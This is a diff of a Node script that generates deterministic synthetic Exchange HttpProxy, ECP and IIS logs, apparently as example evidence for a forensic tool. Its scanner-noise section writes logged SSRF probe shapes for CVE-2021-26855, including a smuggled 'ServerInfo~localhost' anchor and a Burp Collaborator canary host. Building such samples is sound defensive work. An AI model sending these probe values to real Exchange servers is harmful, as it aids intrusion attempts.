@@ -4,7 +4,8 @@
 //   node scripts/make-examples.mjs [OUT_DIR]      (default: examples/evidence, replaced entirely)
 //
 // Deterministic: fixed seeds, fixed dates, no clock or environment input, so a re-run writes identical bytes
-// (test/examples.test.ts checks that against the committed tree). Plain Node, no dependencies.
+// (test/examples.test.ts checks that against the committed tree). Plain Node, no dependencies; the seeded generator
+// and the HttpProxy layout come from bench/lib.mjs, which the bench corpora share.
 //
 // Formats follow the exact header blocks and column layouts of the artefacts.help samples (Qazeer/artefacts.help,
 // CC0: HttpProxy 74 columns, ECP Server 4 columns) and the IIS 10 W3C file of EVTX-ATTACK-SAMPLES
@@ -15,6 +16,7 @@
 import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { HP_FIELDS, hpIdleLatencies, mulberry32 } from '../bench/lib.mjs';
 
 const REPO = dirname(dirname(fileURLToPath(import.meta.url)));
 const OUT = resolve(process.argv[2] ?? join(REPO, 'examples', 'evidence'));
@@ -23,17 +25,6 @@ const EX = 'C/Program Files/Microsoft/Exchange Server/V15';
 
 // ---------------------------------------------------------------------------------------------------------------
 // Deterministic randomness
-
-function mulberry32(seed) {
-  let a = seed >>> 0;
-  return () => {
-    a = (a + 0x6d2b79f5) >>> 0;
-    let t = a;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
 
 class Rng {
   constructor(seed) {
@@ -88,11 +79,21 @@ function put(rel, text) {
 }
 const crlf = (lines) => lines.map((l) => l + CRLF).join('');
 
+/** Rows ({ t, line, … }) grouped by `key(row)` into one log file each, every group in time order. */
+function byFile(rows, key) {
+  const groups = new Map();
+  for (const r of rows) {
+    const k = key(r);
+    if (!groups.has(k)) groups.set(k, []);
+    groups.get(k).push(r);
+  }
+  for (const list of groups.values()) list.sort((a, b) => a.t - b.t);
+  return groups;
+}
+
 // ---------------------------------------------------------------------------------------------------------------
 // Exchange CSV logs: HttpProxy (74 columns) and ECP Server, headers exactly as artefacts.help shows them
 
-const HP_FIELDS =
-  'DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus';
 const HP_COLS = HP_FIELDS.split(',');
 if (HP_COLS.length !== 74) throw new Error('HttpProxy layout must have 74 columns');
 
@@ -148,26 +149,14 @@ function latencies(total, rng) {
   const be = Math.max(0, total - rng.int(2, 6));
   // ADLatency .. TotalRequestTime, as in the samples (a few small numbers, the back-end time, the total).
   return {
-    HttpPipelineLatency: '0',
+    ...hpIdleLatencies(),
     CalculateTargetBackEndLatency: '0',
-    TotalGlsLatency: '0',
-    TotalAccountForestLatency: '0',
-    TotalResourceForestLatency: '0',
     ADLatency: '',
-    TotalSharedCacheLatency: '0',
     ActivityContextLifeTime: String(total),
-    ModuleToHandlerSwitchingLatency: '0',
     ClientReqStreamLatency: '0',
     BackendReqInitLatency: '1',
-    BackendReqStreamLatency: '0',
     BackendProcessingLatency: String(be),
-    BackendRespInitLatency: '0',
-    BackendRespStreamLatency: '0',
-    ClientRespStreamLatency: '0',
-    KerberosAuthHeaderLatency: '0',
-    HandlerCompletionLatency: '0',
     RequestHandlerLatency: String(total),
-    HandlerToModuleSwitchingLatency: '0',
     ProxyTime: String(be + 1),
     CoreLatency: String(total - be),
     RoutingLatency: String(total - be),
@@ -176,7 +165,35 @@ function latencies(total, rng) {
   };
 }
 
-/** A benign request of one protocol at time t, values modelled on the artefacts.help rows. */
+/** Both ends answered 200. */
+const OK = { HttpStatus: '200', BackEndStatus: '200' };
+
+/** A request by `user`, anchored on the user's SID (MAPI and RPC override the anchor with the mailbox GUID). */
+const byUser = (srv, user, AuthenticationType) => ({ AuthenticationType, IsAuthenticated: 'true', AuthenticatedUser: `${srv.netbios}\\${user.login}`, AnchorMailbox: `Sid~${srv.sidBase}-${user.rid}` });
+
+/** The health mailbox's local AMProbe GET of `stem` (Managed Availability's probes). */
+const healthProbe = (srv, stem) => ({
+  UrlHost: 'localhost',
+  UrlStem: stem,
+  AuthenticationType: 'Negotiate',
+  IsAuthenticated: 'true',
+  AuthenticatedUser: `${srv.netbios}\\${srv.healthMailbox}`,
+  AnchorMailbox: `Sid~${srv.sidBase}-1142`,
+  UserAgent: 'AMProbe/Local/ClientAccess',
+  ClientIpAddress: '127.0.0.1',
+  HttpStatus: '200',
+  Method: 'GET',
+  RoutingHint: 'WindowsIdentity',
+  RequestBytes: '0',
+});
+
+/** The BackEndCookie of a request routed to the mailbox database (valid for 30 days). */
+const dbCookie = (srv, t, suffix = '') => `Database~${srv.dbGuid}~~${iso(t + 30 * DAY).slice(0, 19)}${suffix}`;
+
+/**
+ * A benign request of one protocol at time t, values modelled on the artefacts.help rows. Property order is draw
+ * order: every rng call below happens in the order it is written, and changing it changes the committed examples.
+ */
 function benignRow(srv, protocol, t, rng) {
   const total = rng.int(4, 60);
   const begin = t - total;
@@ -194,160 +211,64 @@ function benignRow(srv, protocol, t, rng) {
     RoutingStatus: 'CafeV1',
     DatabaseGuid: '',
   };
-  const routingDb = `|RoutingDB:${srv.dbGuid}`;
+  // Most protocols: a proxied request to the user's database.
+  const proxied = (v, extraInfo) => hpRow(srv, { ...common, ...v, GenericInfo: proxiedInfo(begin, t, extraInfo), DatabaseGuid: `|RoutingDB:${srv.dbGuid}` });
+  // ...made by the user's client; `v` holds what differs, in draw order.
+  const userRequest = (auth, v, extraInfo) => proxied({ ...byUser(srv, user, auth), ...OK, Method: 'POST', ...v }, extraInfo);
+  const sizes = (req, res) => ({ RequestBytes: String(rng.int(...req)), ResponseBytes: String(rng.int(...res)) });
   const probe = rng.int(0, 2) === 0;
   switch (protocol) {
     case 'Owa':
-      if (probe)
-        return hpRow(srv, {
-          ...common,
-          UrlHost: 'localhost',
-          UrlStem: '/owa/',
-          AuthenticationType: 'Negotiate',
-          IsAuthenticated: 'true',
-          AuthenticatedUser: `${srv.netbios}\\${srv.healthMailbox}`,
-          AnchorMailbox: `Sid~${srv.sidBase}-1142`,
-          UserAgent: 'AMProbe/Local/ClientAccess',
-          ClientIpAddress: '127.0.0.1',
-          HttpStatus: '200',
-          BackEndStatus: '200',
-          Method: 'GET',
-          RoutingHint: 'WindowsIdentity',
-          RequestBytes: '0',
-          ResponseBytes: String(rng.int(9000, 12000)),
-          GenericInfo: proxiedInfo(begin, t),
-          DatabaseGuid: routingDb,
-        });
-      return hpRow(srv, {
-        ...common,
-        UrlHost: srv.publicHost,
-        UrlStem: '/owa/service.svc',
-        ProtocolAction: rng.pick(['GetItem', 'FindItem', 'FindConversation', 'GetConversationItems', 'GetOwaUserConfiguration']),
-        AuthenticationType: 'Negotiate',
-        IsAuthenticated: 'true',
-        AuthenticatedUser: `${srv.netbios}\\${user.login}`,
-        AnchorMailbox: `Sid~${srv.sidBase}-${user.rid}`,
-        UserAgent: hpUa(rng.pick([UA.chrome, UA.edge])),
-        ClientIpAddress: rng.pick(srv.clientIps),
-        HttpStatus: '200',
-        BackEndStatus: '200',
-        Method: 'POST',
-        RoutingHint: 'WindowsIdentity',
-        BackEndCookie: `Database~${srv.dbGuid}~~${iso(t + 30 * DAY).slice(0, 19)}~${srv.domain}~1`,
-        RequestBytes: String(rng.int(300, 2400)),
-        ResponseBytes: String(rng.int(800, 40000)),
-        UrlQuery: `?action=${rng.pick(['GetItem', 'FindItem', 'FindConversation'])}&app=Mail&n=${rng.int(10, 99)}`,
-        GenericInfo: proxiedInfo(begin, t),
-        DatabaseGuid: routingDb,
+      if (probe) return proxied({ ...healthProbe(srv, '/owa/'), BackEndStatus: '200', ResponseBytes: String(rng.int(9000, 12000)) });
+      return userRequest('Negotiate', {
+        UrlHost: srv.publicHost, UrlStem: '/owa/service.svc', ProtocolAction: rng.pick(['GetItem', 'FindItem', 'FindConversation', 'GetConversationItems', 'GetOwaUserConfiguration']),
+        UserAgent: hpUa(rng.pick([UA.chrome, UA.edge])), ClientIpAddress: rng.pick(srv.clientIps), RoutingHint: 'WindowsIdentity', BackEndCookie: dbCookie(srv, t, `~${srv.domain}~1`),
+        ...sizes([300, 2400], [800, 40000]), UrlQuery: `?action=${rng.pick(['GetItem', 'FindItem', 'FindConversation'])}&app=Mail&n=${rng.int(10, 99)}`,
       });
     case 'Ews':
       return hpRow(srv, {
         ...common,
-        UrlHost: 'localhost',
-        UrlStem: '/ews/',
-        AuthenticationType: 'Negotiate',
-        IsAuthenticated: 'true',
-        AuthenticatedUser: `${srv.netbios}\\${srv.healthMailbox}`,
-        AnchorMailbox: `Sid~${srv.sidBase}-1142`,
-        UserAgent: 'AMProbe/Local/ClientAccess',
-        ClientIpAddress: '127.0.0.1',
-        HttpStatus: '200',
-        Method: 'GET',
-        RoutingHint: 'WindowsIdentity',
-        RequestBytes: '0',
+        ...healthProbe(srv, '/ews/'),
         GenericInfo: `BeginRequest=${iso(begin)};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;ProxyState-Complete=PrepareServerRequest;SharedCacheGuard=0;EndRequest=${iso(t)};`,
-        DatabaseGuid: routingDb,
+        DatabaseGuid: `|RoutingDB:${srv.dbGuid}`,
       });
     case 'Mapi': {
       const mbx = user.mailboxGuid;
-      return hpRow(srv, {
-        ...common,
-        ClientRequestId: `R:${rng.guid()}:${rng.int(1, 40)};RT:${rng.pick(['Connect', 'Execute', 'Execute', 'Disconnect'])};CI:${rng.guid()}:1;CID:${rng.guid()}`,
-        UrlHost: srv.fqdn,
-        UrlStem: '/mapi/emsmdb/',
-        AuthenticationType: 'Negotiate',
-        IsAuthenticated: 'true',
-        AuthenticatedUser: `${srv.netbios}\\${user.login}`,
-        Organization: srv.domain,
-        AnchorMailbox: `MailboxGuid~${mbx}`,
-        UserAgent: 'MapiHttpClient',
-        ClientIpAddress: rng.pick(srv.clientIps),
-        HttpStatus: '200',
-        BackEndStatus: '200',
-        Method: 'POST',
-        RoutingHint: 'MailboxGuidWithDomain',
-        BackEndCookie: `Database~${srv.dbGuid}~~${iso(t + 30 * DAY).slice(0, 19)}`,
-        RequestBytes: String(rng.int(4, 900)),
-        ResponseBytes: String(rng.int(90, 5000)),
-        UrlQuery: `?mailboxId=${mbx}@${srv.domain}`,
-        GenericInfo: proxiedInfo(begin, t, `BeginGetRequestStream=${iso(begin + 2)};OnRequestStreamReady=${iso(begin + 2)};`),
-        DatabaseGuid: routingDb,
-      });
+      const client = `R:${rng.guid()}:${rng.int(1, 40)};RT:${rng.pick(['Connect', 'Execute', 'Execute', 'Disconnect'])};CI:${rng.guid()}:1;CID:${rng.guid()}`;
+      return userRequest(
+        'Negotiate',
+        {
+          ClientRequestId: client, UrlHost: srv.fqdn, UrlStem: '/mapi/emsmdb/', Organization: srv.domain, AnchorMailbox: `MailboxGuid~${mbx}`,
+          UserAgent: 'MapiHttpClient', ClientIpAddress: rng.pick(srv.clientIps), RoutingHint: 'MailboxGuidWithDomain', BackEndCookie: dbCookie(srv, t),
+          ...sizes([4, 900], [90, 5000]), UrlQuery: `?mailboxId=${mbx}@${srv.domain}`,
+        },
+        `BeginGetRequestStream=${iso(begin + 2)};OnRequestStreamReady=${iso(begin + 2)};`,
+      );
     }
     case 'Eas':
-      return hpRow(srv, {
-        ...common,
-        UrlHost: srv.publicHost,
-        UrlStem: '/Microsoft-Server-ActiveSync/default.eas',
-        AuthenticationType: 'Basic',
-        IsAuthenticated: 'true',
-        AuthenticatedUser: `${srv.netbios}\\${user.login}`,
-        AnchorMailbox: `Sid~${srv.sidBase}-${user.rid}`,
-        UserAgent: rng.pick([UA.iphone, UA.outlookMobile]),
-        ClientIpAddress: rng.pick(srv.mobileIps),
-        HttpStatus: '200',
-        BackEndStatus: '200',
-        Method: 'POST',
-        RoutingHint: 'WindowsIdentity-NoDatabase',
-        RequestBytes: String(rng.int(20, 400)),
-        ResponseBytes: String(rng.int(20, 9000)),
-        UrlQuery: `?Cmd=${rng.pick(['Sync', 'Ping', 'FolderSync'])}&User=${srv.domain}%5C${user.login}&DeviceId=${user.deviceId}&DeviceType=${rng.pick(['iPhone', 'Outlook'])}`,
-        GenericInfo: proxiedInfo(begin, t),
-        DatabaseGuid: routingDb,
+      return userRequest('Basic', {
+        UrlHost: srv.publicHost, UrlStem: '/Microsoft-Server-ActiveSync/default.eas',
+        UserAgent: rng.pick([UA.iphone, UA.outlookMobile]), ClientIpAddress: rng.pick(srv.mobileIps), RoutingHint: 'WindowsIdentity-NoDatabase',
+        ...sizes([20, 400], [20, 9000]), UrlQuery: `?Cmd=${rng.pick(['Sync', 'Ping', 'FolderSync'])}&User=${srv.domain}%5C${user.login}&DeviceId=${user.deviceId}&DeviceType=${rng.pick(['iPhone', 'Outlook'])}`,
       });
     case 'Autodiscover':
-      return hpRow(srv, {
-        ...common,
-        UrlHost: srv.autodiscoverHost,
-        UrlStem: '/autodiscover/autodiscover.xml',
-        AuthenticationType: 'NTLM',
-        IsAuthenticated: 'true',
-        AuthenticatedUser: `${srv.netbios}\\${user.login}`,
-        AnchorMailbox: `Sid~${srv.sidBase}-${user.rid}`,
-        UserAgent: hpUa(rng.pick([UA.outlook, UA.macMail])),
-        ClientIpAddress: rng.pick(srv.clientIps),
-        HttpStatus: '200',
-        BackEndStatus: '200',
-        Method: 'POST',
-        RoutingHint: 'WindowsIdentity',
-        BackEndCookie: `Database~${srv.dbGuid}~~${iso(t + 30 * DAY).slice(0, 19)}~${srv.domain}~1`,
-        RequestBytes: String(rng.int(300, 400)),
-        ResponseBytes: String(rng.int(300, 4000)),
-        GenericInfo: proxiedInfo(begin, t, `RandomBE=${srv.fqdn}~1942063431;`),
-        DatabaseGuid: routingDb,
-      });
+      return userRequest(
+        'NTLM',
+        {
+          UrlHost: srv.autodiscoverHost, UrlStem: '/autodiscover/autodiscover.xml',
+          UserAgent: hpUa(rng.pick([UA.outlook, UA.macMail])), ClientIpAddress: rng.pick(srv.clientIps), RoutingHint: 'WindowsIdentity', BackEndCookie: dbCookie(srv, t, `~${srv.domain}~1`),
+          ...sizes([300, 400], [300, 4000]),
+        },
+        `RandomBE=${srv.fqdn}~1942063431;`,
+      );
     case 'Ecp':
-      return hpRow(srv, {
-        ...common,
-        UrlHost: srv.publicHost,
-        UrlStem: '/ecp/RulesEditor/InboxRules.svc/GetList',
-        AuthenticationType: 'Negotiate',
-        IsAuthenticated: 'true',
-        AuthenticatedUser: `${srv.netbios}\\${user.login}`,
-        AnchorMailbox: `Sid~${srv.sidBase}-${user.rid}`,
-        UserAgent: hpUa(UA.chrome),
-        ClientIpAddress: rng.pick(srv.clientIps),
-        HttpStatus: '200',
-        BackEndStatus: '200',
-        Method: 'POST',
-        RoutingHint: 'WindowsIdentity',
-        RequestBytes: String(rng.int(100, 500)),
-        ResponseBytes: String(rng.int(400, 3000)),
-        UrlQuery: `?msExchEcpCanary=${rng.alnum(43)}.`,
-        GenericInfo: proxiedInfo(begin, t),
-        DatabaseGuid: routingDb,
+      return userRequest('Negotiate', {
+        UrlHost: srv.publicHost, UrlStem: '/ecp/RulesEditor/InboxRules.svc/GetList',
+        UserAgent: hpUa(UA.chrome), ClientIpAddress: rng.pick(srv.clientIps), RoutingHint: 'WindowsIdentity',
+        ...sizes([100, 500], [400, 3000]), UrlQuery: `?msExchEcpCanary=${rng.alnum(43)}.`,
       });
     case 'PowerShell':
+      // Not routed to a database: no RoutingDB.
       return hpRow(srv, {
         ...common,
         UrlHost: srv.fqdn.toLowerCase(),
@@ -359,8 +280,7 @@ function benignRow(srv, protocol, t, rng) {
         AnchorMailbox: `ServerVersion~Version ${srv.verCols[0]}.${srv.verCols[1]} (Build ${srv.verCols[2]}.0)`,
         UserAgent: 'Microsoft WinRM Client',
         ClientIpAddress: srv.ip,
-        HttpStatus: '200',
-        BackEndStatus: '200',
+        ...OK,
         Method: 'POST',
         RoutingHint: 'ExchClientVer-ServerCookie',
         BackEndCookie: `Server~${srv.fqdn.toLowerCase()}~1942063431~${iso(t + 600_000).slice(0, 19)}`,
@@ -370,25 +290,10 @@ function benignRow(srv, protocol, t, rng) {
         GenericInfo: proxiedInfo(begin, t, `SessionId=${rng.guid().toUpperCase()};ShellId=${rng.guid().toUpperCase()};`),
       });
     case 'RpcHttp':
-      return hpRow(srv, {
-        ...common,
-        UrlHost: srv.publicHost,
-        UrlStem: '/rpc/rpcproxy.dll',
-        AuthenticationType: 'NTLM',
-        IsAuthenticated: 'true',
-        AuthenticatedUser: `${srv.netbios}\\${user.login}`,
-        AnchorMailbox: `MailboxGuid~${user.mailboxGuid}`,
-        UserAgent: 'MSRPC',
-        ClientIpAddress: rng.pick(srv.clientIps),
-        HttpStatus: '200',
-        BackEndStatus: '200',
-        Method: 'RPC_IN_DATA',
-        RoutingHint: 'MailboxGuidWithDomain',
-        RequestBytes: String(rng.int(100, 9000)),
-        ResponseBytes: '0',
-        UrlQuery: `?${user.mailboxGuid}@${srv.domain}:6001`,
-        GenericInfo: proxiedInfo(begin, t),
-        DatabaseGuid: routingDb,
+      return userRequest('NTLM', {
+        UrlHost: srv.publicHost, UrlStem: '/rpc/rpcproxy.dll', AnchorMailbox: `MailboxGuid~${user.mailboxGuid}`,
+        UserAgent: 'MSRPC', ClientIpAddress: rng.pick(srv.clientIps), Method: 'RPC_IN_DATA', RoutingHint: 'MailboxGuidWithDomain',
+        RequestBytes: String(rng.int(100, 9000)), ResponseBytes: '0', UrlQuery: `?${user.mailboxGuid}@${srv.domain}:6001`,
       });
     default:
       throw new Error(protocol);
@@ -414,14 +319,7 @@ function frontEndRow(srv, t, v) {
 
 /** HttpProxy files: rows grouped by protocol and hour, one `HttpProxy_YYYYMMDDHH-1.LOG` each. */
 function writeHttpProxy(host, srv, rows) {
-  const groups = new Map();
-  for (const r of rows) {
-    const key = `${r.protocol}/${ymdh(r.t)}`;
-    if (!groups.has(key)) groups.set(key, []);
-    groups.get(key).push(r);
-  }
-  for (const [key, list] of groups) {
-    list.sort((a, b) => a.t - b.t);
+  for (const [key, list] of byFile(rows, (r) => `${r.protocol}/${ymdh(r.t)}`)) {
     const [protocol, hour] = key.split('/');
     const hourMs = at(`${hour.slice(0, 4)}-${hour.slice(4, 6)}-${hour.slice(6, 8)}T${hour.slice(8, 10)}:00:00.000Z`);
     // The file is opened by the first request of the hour; #Date is a moment before it.
@@ -460,14 +358,7 @@ function ecpRow(srv, t, rng, { cmd, url, ex = '', sid, time }) {
 }
 
 function writeEcpServer(host, srv, rows) {
-  const byDay = new Map();
-  for (const r of rows) {
-    const d = ymd(r.t);
-    if (!byDay.has(d)) byDay.set(d, []);
-    byDay.get(d).push(r);
-  }
-  for (const [d, list] of byDay) {
-    list.sort((a, b) => a.t - b.t);
+  for (const [d, list] of byFile(rows, (r) => ymd(r.t))) {
     const lines = [...exchangeHeader('15.0.0.0', 'ECP Server Log', list[0].t - 28, 'TimeStamp,ServerName,EventId,EventData'), ...list.map((r) => r.line)];
     put(`${host}/${EX}/Logging/ECP/Server/ECPServer${d}-1.LOG`, crlf(lines));
   }
@@ -522,14 +413,7 @@ function benignIis(srv, t, rng) {
 }
 
 function writeIis(host, rows) {
-  const byDay = new Map();
-  for (const r of rows) {
-    const d = iso(r.t).slice(2, 10).replace(/-/g, '');
-    if (!byDay.has(d)) byDay.set(d, []);
-    byDay.get(d).push(r);
-  }
-  for (const [d, list] of byDay) {
-    list.sort((a, b) => a.t - b.t);
+  for (const [d, list] of byFile(rows, (r) => iso(r.t).slice(2, 10).replace(/-/g, ''))) {
     const opened = iso(list[0].t - 1000);
     const head = ['#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', `#Date: ${opened.slice(0, 10)} ${opened.slice(11, 19)}`, `#Fields: ${IIS_FIELDS}`];
     put(`${host}/C/inetpub/logs/LogFiles/W3SVC1/u_ex${d}.log`, crlf([...head, ...list.map((r) => r.line)]));
@@ -580,116 +464,70 @@ function background(srv, rng, { from, to, httpEvery = 1, ecpEvery = 7, iisEvery 
 // ---------------------------------------------------------------------------------------------------------------
 // Scanner noise (real shapes)
 
+/**
+ * An unauthenticated GET of `host` + `stem` from a scanner at `ip` (anchor: its AnchorMailbox cookie), as the front end
+ * logs it. `more()` gives the rest of the row; it is called after the request id is drawn, to keep the draw order.
+ */
+function scannerRow(srv, rng, { protocol, t, ip, host, stem, anchor, ua }, more) {
+  const request = { DateTime: iso(t), RequestId: rng.guid(), Protocol: protocol, UrlHost: host, UrlStem: stem, AuthenticationType: 'FBA', IsAuthenticated: 'false', AnchorMailbox: anchor, UserAgent: ua };
+  return { protocol, t, line: hpRow(srv, { ...request, ClientIpAddress: ip, ServerHostName: srv.name, Method: 'GET', ProxyAction: 'Proxy', RequestBytes: '0', ...more() }) };
+}
+
+/** An SSRF probe that the front end proxied to `target`, whose failure it logged as a 500 (total ms). */
+const failedSsrf = (target, total) => ({
+  HttpStatus: '500',
+  BackEndStatus: '500',
+  TargetServer: target,
+  TargetServerVersion: '0.00.0003.000',
+  RoutingType: 'CrossRegion',
+  RoutingHint: 'X-AnonResource-Backend-Cookie',
+  ResponseBytes: '85',
+  ActivityContextLifeTime: String(total),
+  TotalRequestTime: String(total),
+});
+
 /** Microsoft's http-vuln-cve2021-26855 NSE probe, in the shape published in signature-base PR #125. */
 function nseProbe(srv, t, ip, rng) {
   const total = rng.int(60, 90);
-  return {
-    protocol: 'Owa',
-    t,
-    line: hpRow(srv, {
-      DateTime: iso(t),
-      RequestId: rng.guid(),
-      Protocol: 'Owa',
-      UrlHost: srv.publicIp,
-      UrlStem: '/owa/auth/x.js',
-      AuthenticationType: 'FBA',
-      IsAuthenticated: 'false',
-      AnchorMailbox: 'ServerInfo~localhost/ecp/default.flt?',
-      UserAgent: hpUa('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
-      ClientIpAddress: ip,
-      ServerHostName: srv.name,
-      HttpStatus: '500',
-      BackEndStatus: '500',
-      Method: 'GET',
-      ProxyAction: 'Proxy',
-      TargetServer: 'localhost',
-      TargetServerVersion: '0.00.0003.000',
-      RoutingType: 'CrossRegion',
-      RoutingHint: 'X-AnonResource-Backend-Cookie',
-      RequestBytes: '0',
-      ResponseBytes: '85',
-      TargetOutstandingRequests: '1',
-      HttpPipelineLatency: '1',
-      CalculateTargetBackEndLatency: '7',
-      ActivityContextLifeTime: String(total),
-      BackendProcessingLatency: String(total - 9),
-      TotalRequestTime: String(total),
-      GenericInfo: `BeginRequest=${iso(t - total)};CorrelationID=<empty>;ProxyState-Run=None;ProxyToDownLevel=True;BeginGetResponse=${iso(t - total + 8)};OnResponseReady=${iso(t)};EndGetResponse=${iso(t)};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${iso(t)};`,
-      GenericErrors: 'WebExceptionStatus=ProtocolError;ResponseStatusCode=500;WebException=System.Net.WebException: The remote server returned an error: (500) Internal Server Error.',
-    }),
-  };
+  const ua = hpUa('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)');
+  return scannerRow(srv, rng, { protocol: 'Owa', t, ip, host: srv.publicIp, stem: '/owa/auth/x.js', anchor: 'ServerInfo~localhost/ecp/default.flt?', ua }, () => ({
+    ...failedSsrf('localhost', total),
+    TargetOutstandingRequests: '1',
+    HttpPipelineLatency: '1',
+    CalculateTargetBackEndLatency: '7',
+    BackendProcessingLatency: String(total - 9),
+    GenericInfo: `BeginRequest=${iso(t - total)};CorrelationID=<empty>;ProxyState-Run=None;ProxyToDownLevel=True;BeginGetResponse=${iso(t - total + 8)};OnResponseReady=${iso(t)};EndGetResponse=${iso(t)};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${iso(t)};`,
+    GenericErrors: 'WebExceptionStatus=ProtocolError;ResponseStatusCode=500;WebException=System.Net.WebException: The remote server returned an error: (500) Internal Server Error.',
+  }));
 }
 
 /** zgrab reading the eDiscovery export-tool manifest for the build number (the artefacts.help Ecp row). */
 function zgrab(srv, t, ip, rng) {
   const total = rng.int(20, 40);
-  return {
-    protocol: 'Ecp',
-    t,
-    line: hpRow(srv, {
-      DateTime: iso(t),
-      RequestId: rng.guid(),
-      Protocol: 'Ecp',
-      UrlHost: srv.publicIp,
-      UrlStem: '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application',
-      AuthenticationType: 'FBA',
-      IsAuthenticated: 'false',
-      AnchorMailbox: 'ServerVersion~Version 15.0 (Build 0.0)',
-      UserAgent: 'Mozilla/5.0 zgrab/0.x',
-      ClientIpAddress: ip,
-      ServerHostName: srv.name,
-      HttpStatus: '200',
-      BackEndStatus: '200',
-      Method: 'GET',
-      ProxyAction: 'Proxy',
-      TargetServer: srv.fqdn,
-      TargetServerVersion: srv.tsv,
-      RoutingType: 'IntraForest',
-      RoutingHint: 'EDiscoveryExportTool-ServerVersion',
-      RequestBytes: '0',
-      ResponseBytes: '10112',
-      ...latencies(total, rng),
-      GenericInfo: `BeginRequest=${iso(t - total)};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;Krb=UA;CT=An;NewConnection=${ip}&0;BeginGetResponse=${iso(t - total + 7)};OnResponseReady=${iso(t)};EndGetResponse=${iso(t)};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${iso(t)};`,
-      RoutingStatus: 'CafeV1',
-    }),
-  };
+  const stem = '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application';
+  return scannerRow(srv, rng, { protocol: 'Ecp', t, ip, host: srv.publicIp, stem, anchor: 'ServerVersion~Version 15.0 (Build 0.0)', ua: 'Mozilla/5.0 zgrab/0.x' }, () => ({
+    ...OK,
+    TargetServer: srv.fqdn,
+    TargetServerVersion: srv.tsv,
+    RoutingType: 'IntraForest',
+    RoutingHint: 'EDiscoveryExportTool-ServerVersion',
+    ResponseBytes: '10112',
+    ...latencies(total, rng),
+    GenericInfo: `BeginRequest=${iso(t - total)};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;Krb=UA;CT=An;NewConnection=${ip}&0;BeginGetResponse=${iso(t - total + 7)};OnResponseReady=${iso(t)};EndGetResponse=${iso(t)};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${iso(t)};`,
+    RoutingStatus: 'CafeV1',
+  }));
 }
 
 /** An out-of-band SSRF test (Burp Collaborator canary in the X-AnonResource-Backend cookie). */
 function burpCanary(srv, t, ip, rng) {
   const host = `${rng.alnum(30).toLowerCase()}.burpcollaborator.net`;
   const total = rng.int(40, 120);
-  return {
-    protocol: 'Ecp',
-    t,
-    line: hpRow(srv, {
-      DateTime: iso(t),
-      RequestId: rng.guid(),
-      Protocol: 'Ecp',
-      UrlHost: srv.publicHost,
-      UrlStem: '/ecp/x.js',
-      AuthenticationType: 'FBA',
-      IsAuthenticated: 'false',
-      AnchorMailbox: `ServerInfo~${host}/ecp/default.flt?`,
-      UserAgent: hpUa('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36'),
-      ClientIpAddress: ip,
-      ServerHostName: srv.name,
-      HttpStatus: '500',
-      BackEndStatus: '500',
-      Method: 'GET',
-      ProxyAction: 'Proxy',
-      TargetServer: host,
-      TargetServerVersion: '0.00.0003.000',
-      RoutingType: 'CrossRegion',
-      RoutingHint: 'X-AnonResource-Backend-Cookie',
-      RequestBytes: '0',
-      ResponseBytes: '85',
-      ActivityContextLifeTime: String(total),
-      TotalRequestTime: String(total),
-      GenericInfo: `BeginRequest=${iso(t - total)};CorrelationID=<empty>;ProxyState-Run=None;ProxyToDownLevel=True;SharedCacheGuard=0;EndRequest=${iso(t)};`,
-      GenericErrors: 'WebExceptionStatus=ProtocolError;ResponseStatusCode=500',
-    }),
-  };
+  const ua = hpUa('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36');
+  return scannerRow(srv, rng, { protocol: 'Ecp', t, ip, host: srv.publicHost, stem: '/ecp/x.js', anchor: `ServerInfo~${host}/ecp/default.flt?`, ua }, () => ({
+    ...failedSsrf(host, total),
+    GenericInfo: `BeginRequest=${iso(t - total)};CorrelationID=<empty>;ProxyState-Run=None;ProxyToDownLevel=True;SharedCacheGuard=0;EndRequest=${iso(t)};`,
